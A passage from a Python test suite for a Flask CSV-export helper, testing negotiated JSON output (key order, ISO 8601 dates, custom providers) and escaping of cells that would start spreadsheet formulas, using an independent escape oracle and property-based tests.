def test_negotiated_json_keeps_the_column_order(app: Flask) -> None:
    assert app.json.sort_keys  # Flask's default: sorted keys
    rows = [{"a": 1, "m": 2, "z": 3}]
    route(app, csv_export({"z": "Z", "a": "A", "m": "M"}, negotiate=True), rows, "/map")
    route(app, csv_export(["m", "z"], negotiate=True), rows, "/list")
    route(app, csv_export(negotiate=True), [{"z": 1, "a": 2}, {"a": 3}], "/first")
    route(app, csv_export(negotiate=True), [Order(1, Decimal(2))], "/dc")

    @app.get("/other")
    def other() -> dict[str, int]:
        return {"z": 1, "a": 2}

    c = Client(app)
    assert keys_in_order(c.get("/map").data) == [["z", "a", "m"]]
    assert keys_in_order(c.get("/list").data) == [["m", "z"]]
    assert keys_in_order(c.get("/first").data) == [["z", "a"], ["z", "a"]]
    assert keys_in_order(c.get("/dc").data) == [["id", "total", "note"]]
    # The rest of the app keeps its provider's settings.
    assert c.get("/other").data.replace(b" ", b"").startswith(b'{"a":2,"z":1}')


def test_negotiated_json_writes_dates_as_iso_8601(app: Flask) -> None:
    import uuid

    tz = datetime.timezone(datetime.timedelta(hours=2))
    row = {
        "day": datetime.date(2024, 2, 29),
        "at": datetime.datetime(2024, 2, 29, 13, 5, 1),
        "aware": datetime.datetime(2024, 2, 29, 13, 5, 1, 500, tzinfo=tz),
        "time": datetime.time(7, 30),
        "amount": Decimal("-0.10"),
        "id": uuid.UUID(int=1),
        "blob": b"caf\xc3\xa9",
        "none": None,
    }
    r = get(app, csv_export(negotiate=True), [row])
    assert r.json == [
        {
            "day": "2024-02-29",
            "at": "2024-02-29T13:05:01",
            "aware": "2024-02-29T13:05:01.000500+02:00",
            "time": "07:30:00",
            "amount": "-0.10",  # still Flask's provider
            "id": "00000000-0000-0000-0000-000000000001",
            "blob": "café",
            "none": None,
        }
    ]


def test_negotiated_json_of_sequence_rows_writes_dates_as_iso_8601(app: Flask) -> None:
    r = get(app, csv_export(negotiate=True), [(datetime.date(2024, 1, 2), b"x")])
    assert r.json == [["2024-01-02", "x"]]


def test_negotiated_json_uses_a_custom_provider(bare_app: Flask) -> None:
    from flask.json.provider import JSONProvider

    class Money:
        cents = 150

    class Provider(JSONProvider):
        def dumps(self, obj: t.Any, **kwargs: t.Any) -> str:  # no sort_keys
            assert not kwargs
            return json.dumps(obj, default=lambda o: f"{o.cents / 100:.2f} EUR")

        def loads(self, s: str | bytes, **kwargs: t.Any) -> t.Any:
            return json.loads(s)

    bare_app.json = Provider(bare_app)
    rows = [{"z": Money(), "a": datetime.date(2024, 1, 2)}]
    r = get(bare_app, csv_export(negotiate=True), rows)
    assert json.loads(r.data, object_pairs_hook=list) == [
        [("z", "1.50 EUR"), ("a", "2024-01-02")]
    ]


def spreadsheet_escape(text: str) -> str:
    """The escape written from the rules of docs/csv.rst and the spreadsheet
    model above (:func:`cell_starts`, :func:`starts_a_formula`), not from
    ``escape_text``: a ``'`` where the string, a cell after a separator (up to
    the next one or a line break), or a line after a break starts a formula
    after blanks, unless that text is a number literal."""
    quotes = set()
    if starts_a_formula(text, "=+-@\t\r\n\x00") and not NUMBER.fullmatch(text):
        quotes.add(0)
    breaks = re.compile("|".join(map(re.escape, BREAKS)))
    starts = [0, *(m.end() for m in breaks.finditer(text))]
    for start, end in zip(starts, [*(s - 1 for s in starts[1:]), len(text)]):
        line = text[start:end]
        if start and starts_a_formula(line, "=+-@") and not NUMBER.fullmatch(line):
            quotes.add(start)
        for sep in SEPARATORS:
            at = line.find(sep)
            while at >= 0:
                nxt = line.find(sep, at + 1)
                cell = line[at + 1 : nxt if nxt >= 0 else len(line)]
                if starts_a_formula(cell, "=+-@\t\x00") and not NUMBER.fullmatch(cell):
                    quotes.add(start + at + 1)
                at = nxt
    return "".join("'" * (i in quotes) + char for i, char in enumerate(text))


@pytest.mark.parametrize(
    ("text", "expected"),
    [*ISSUE_CELLS.items(), ("a,-5;=1", "a,'-5;'=1"), ("-42\r\n+17", "'-42\r\n+17")],
)
def test_the_oracle_agrees_with_the_hand_written_cells(
    text: str, expected: str
) -> None:
    assert spreadsheet_escape(text) == expected


@settings(max_examples=60, deadline=None)
@given(
    st.lists(
        st.tuples(
            st.one_of(st.none(), st.integers(), st.floats(allow_nan=False)),
            hostile_text,
            st.one_of(st.binary(max_size=12), hostile_text.map(str.encode)),
        ),
        max_size=20,
    )
)
def test_any_cells_export_escaped_and_decoded(rows: list[tuple[t.Any, ...]]) -> None:
    app = Flask(__name__)
    route(app, csv_export(["n", "text", "blob"]), rows)
    r = Client(app).get("/x")
    assert r.status_code == 200
    # Expected cells from the stdlib and the independent oracle above, never
    # from the code under test.
    expected = [
        [
            "" if n is None else str(n),
            spreadsheet_escape(text),
            spreadsheet_escape(blob.decode("utf-8", "replace")),
        ]
        for n, text, blob in rows
    ]
    got = parse(r.data)
    assert got[0] == ["n", "text", "blob"]
    for row, want in zip(got[1:], expected, strict=True):
        # A signed number that a ';' or TAB reader would see run on into a
        # formula gets a quote (its own property test is elsewhere): the
        # first cell is the number, quoted or not; the others are the oracle's.
        assert row[0] in (want[0], "'" + want[0])
        assert row[0] == want[0] or want[0][:1] == "-"
        assert row[1:] == want[1:]
